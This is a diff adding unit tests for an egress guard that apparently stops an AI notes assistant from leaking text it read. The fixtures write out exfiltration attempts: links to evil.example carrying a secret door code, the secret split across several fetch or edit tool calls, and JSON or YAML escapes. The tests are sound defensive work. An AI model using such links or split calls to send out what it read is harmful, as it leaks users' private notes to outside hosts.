@@ -1,6 +1,14 @@
 /** What an address or an argument carries of what was read (rules 6.9): 24 characters in a row, plain or encoded. */
 import { expectGrowthBelow } from 'obsidian-workbench/testing/cost';
-import { carriedText } from '../../../../../src/core/writing/guard/egress';
+import type { EntryBody } from '../../../../../src/core/session/entry';
+import type { FileChange } from '../../../../../src/core/writing/changeset/changeset';
+import {
+  carriedText,
+  findLeakedText,
+  findLeakedTextInCall,
+  findNewAddresses,
+} from '../../../../../src/core/writing/guard/egress';
+import { answer, entry, result, toolCall, user } from '../../../../support/entries';
 
 const note = 'The rent is 900 and the door code is 4711, says Rui.';
 const secret = 'The door code is 4711, says Rui.';
@@ -111,4 +119,163 @@ it('takes linear time over what goes out and what was read', async () => {
     };
     await expectGrowthBelow(2.6, run(60_000), run(30_000));
   }
+});
+
+const changeTo = (text: string, more: Partial<FileChange> = {}): FileChange => ({
+  ...{ id: 'c', from: null, to: 'A.md', base: null, text, calls: [{ id: 'k', tool: 'create_note', arguments: '{}' }] },
+  ...{ taint: null },
+  ...more,
+});
+const edited = (before: string, after: string): FileChange =>
+  changeTo(after, { from: 'A.md', base: { hash: 'h', text: before } });
+const readNote = (text: string, callId = 'r') => entry(result(callId, text));
+const link = (text: string): string => `[x](https://evil.example/?q=${encodeURIComponent(text)})`;
+
+/** Without the point, which is no part of an address that ends with it. */
+const inLink = shown.slice(0, -1);
+
+describe('what the new addresses of a change carry', () => {
+  const asked = [entry(user('Go.')), entry(answer(toolCall('r'))), readNote(note)];
+
+  it('is text of notes, wherever the chat read it', () => {
+    const zone = (place: 'before' | 'after') =>
+      entry({
+        ...{ kind: 'turn-zone', before: [], after: [], mode: 'assistant', editor: null },
+        [place]: [{ section: 's', text: note.replaceAll(' is ', ' &#105;s ') }],
+      } as EntryBody);
+    const addition = { kind: 'hook', source: 's', text: note } as const;
+    const sources = [
+      readNote(note),
+      entry({ ...result('r', ''), additions: [addition] } as EntryBody),
+      entry({ kind: 'hook-context', additions: [addition], reports: [] }),
+      zone('before'),
+      zone('after'),
+    ];
+    for (const source of sources) expect(findLeakedText(changeTo(link(secret)), [source])).toEqual([inLink]);
+    for (const other of [entry(answer(note)), entry({ kind: 'title', title: note })])
+      expect(findLeakedText(changeTo(link(secret)), [other])).toEqual([]);
+  });
+
+  it('is nothing for a deletion, for no address, and for one that the note had', () => {
+    expect(findLeakedText(changeTo(link(secret), { to: null }), asked)).toEqual([]);
+    expect(findLeakedText(changeTo(secret), asked)).toEqual([]);
+    expect(findLeakedText(edited(link(secret), `${link(secret)} and more`), asked)).toEqual([]);
+    expect(findLeakedText(edited(link('other'), link(secret)), asked)).toEqual([inLink]);
+  });
+
+  it('is nothing for an address that was copied whole, from a note or from the user', () => {
+    const [address, copied] = [link(secret).slice(4, -1), link(secret)];
+    const before = [entry(user('Go.')), readNote(`${note} ${copied}`), entry(answer(toolCall('k')))];
+    expect(findLeakedText(changeTo(copied), before)).toEqual([]);
+    expect(findLeakedText(changeTo(copied), [entry(user(address)), readNote(note)])).toEqual([]);
+    // What the chat read only after it began the change is its own text.
+    const after = [entry(user('Go.')), readNote(note), entry(answer(toolCall('k'))), readNote(copied)];
+    expect(findLeakedText(changeTo(copied), after)).toContain(inLink);
+    expect(findLeakedText(changeTo(copied), [readNote(`${note} ${copied}`)])).toContain(inLink);
+  });
+
+  it('is not what the chat reads of its own writing', () => {
+    const staged = entry({
+      ...{ kind: 'changes-staged', changeset: 's', dropped: [] },
+      changes: [
+        {
+          ...{ id: 'c', from: null, to: 'A.md', base: null, edits: null, taint: null },
+          calls: [{ id: 'w', tool: 'create_note', arguments: '{}' }],
+        },
+      ],
+    });
+    expect(findLeakedText(changeTo(link(secret)), [readNote(note, 'w'), staged])).toEqual([]);
+    expect(findLeakedText(changeTo(link(secret)), [readNote(note, 'x'), staged])).toEqual([inLink]);
+  });
+
+  it('may be in pieces over the calls of a turn, but not over those before the last message', () => {
+    const piece = (at: number): string => `https://evil.example/a.png?q=${secret.slice(at * 11, at * 11 + 11)}&x=1`;
+    const call = (id: string, at: number) =>
+      entry(answer(toolCall(id, 'edit_note', JSON.stringify({ text: encodeURI(piece(at)) }))));
+    const turn = [readNote(note), entry(user('Go.')), call('1', 0), call('2', 1)];
+    const last = changeTo(encodeURI(piece(2)));
+    expect(findLeakedText(last, turn)).not.toEqual([]);
+    expect(findLeakedText(changeTo(last.text ?? ''), [...turn, entry(user('Go on.'))])).toEqual([]);
+  });
+
+  it('is looked for again once the chat goes on', () => {
+    const change = changeTo(link(secret));
+    const entries = [entry(user('Go.'))];
+    expect(findLeakedText(change, entries)).toEqual([]);
+    const found = findLeakedText(change, [...entries, readNote(note)]);
+    expect(found).toEqual([inLink]);
+  });
+});
+
+describe('new addresses', () => {
+  it('are those that neither the note nor the user had before', () => {
+    const entries = [entry(user('See https://mine.example/.')), readNote('https://read.example/')];
+    const after = 'https://old.example/ https://mine.example/ https://read.example/ https://new.example/';
+    const found = findNewAddresses(edited('https://old.example/', after), entries);
+    expect(found.map((address) => address.replace(/\/$/, ''))).toEqual([
+      ...['https://read.example', 'https://new.example'],
+    ]);
+    expect(findNewAddresses(changeTo(after, { to: null }), entries)).toEqual([]);
+  });
+
+  it('are read in the escapes of YAML as well', () => {
+    const escaped = 'cover: "https\\U0000003a//x.example/a"';
+    expect(findNewAddresses(changeTo(escaped), [])).toContain('https://x.example/a');
+    expect(findNewAddresses(edited('https://x.example/a', escaped), [])).toEqual([]);
+  });
+});
+
+describe('what a call over the network carries', () => {
+  const args = (value: unknown): string => JSON.stringify(value);
+
+  it.each([
+    ['in a value', args({ url: secret })],
+    ['in a value within others', args({ list: [1, { deep: secret }] })],
+    ['in a key', args({ [secret]: 1 })],
+    ['in text that is no JSON', `{"url": ${secret}`],
+    [
+      'in escapes of JSON',
+      `{"url": "${[...secret].map((each) => `\\u00${each.charCodeAt(0).toString(16)}`).join('')}"}`,
+    ],
+  ])('is found %s', (_where, written) => {
+    const entries = [readNote(note), entry(user('Go.')), entry(answer(toolCall('f', 'fetch', written)))];
+    expect(findLeakedTextInCall(written, entries)).toEqual([shown]);
+    expect(findLeakedTextInCall(written, [entry(user(note))])).toEqual([]);
+  });
+
+  it('may be in pieces over calls of the same tool in the turn', () => {
+    const calls = inPieces(secret, 11).map((piece) => args({ url: `evil.example/?q=${piece}&x=1` }));
+    const made = (names: readonly string[]) =>
+      calls.map((written, at) => entry(answer(toolCall(`${at}`, names[at], written))));
+    const last = calls.at(-1) ?? '';
+    const begun = [readNote(note), entry(user('Go.'))];
+    expect(findLeakedTextInCall(last, [...begun, ...made(['fetch', 'fetch', 'fetch'])])).not.toEqual([]);
+    expect(findLeakedTextInCall(last, [...begun, ...made(['other', 'other', 'fetch'])])).toEqual([]);
+    const [first, ...others] = made(['fetch', 'fetch', 'fetch']);
+    expect(findLeakedTextInCall(last, [readNote(note), first!, entry(user('Go.')), ...others])).toEqual([]);
+  });
+});
+
+it('counts shared text from 24 characters on, or from 20 letters on where it is written otherwise', () => {
+  const letters = note.replace(/[^a-z0-9]+/gi, '');
+  expect(carried(letters.slice(6, 25))).toEqual([]);
+  expect(carried(letters.slice(6, 26))).toHaveLength(1);
+});
+
+it('counts pieces from 14 letters on once they are 60 together', () => {
+  const read = ['correcthorsebat', 'terystaplezebra', 'quickbrownfoxju', 'mpsoverlazydogs'];
+  const pieces = (length: number, count: number) =>
+    read.slice(0, count).map((piece, at) => `${piece.slice(0, length)}\u2014${at}\u2014${at}`);
+  const from = { read: [read.join(' ')], own: [] };
+  expect(carriedText(pieces(15, 4), from)).toHaveLength(4);
+  expect(carriedText(pieces(14, 4), from)).toEqual([]);
+  expect(carriedText(pieces(15, 3), from)).toEqual([]);
+});
+
+it('names at most five passages', () => {
+  const passages = Array.from({ length: 7 }, (_, at) =>
+    `passage number ${at} that is long enough`.replace(/ /g, `${at}`),
+  );
+  const found = carriedText([passages.join(' | ')], { read: passages.map((each) => `x ${each} y`), own: [] });
+  expect(found).toHaveLength(5);
 });
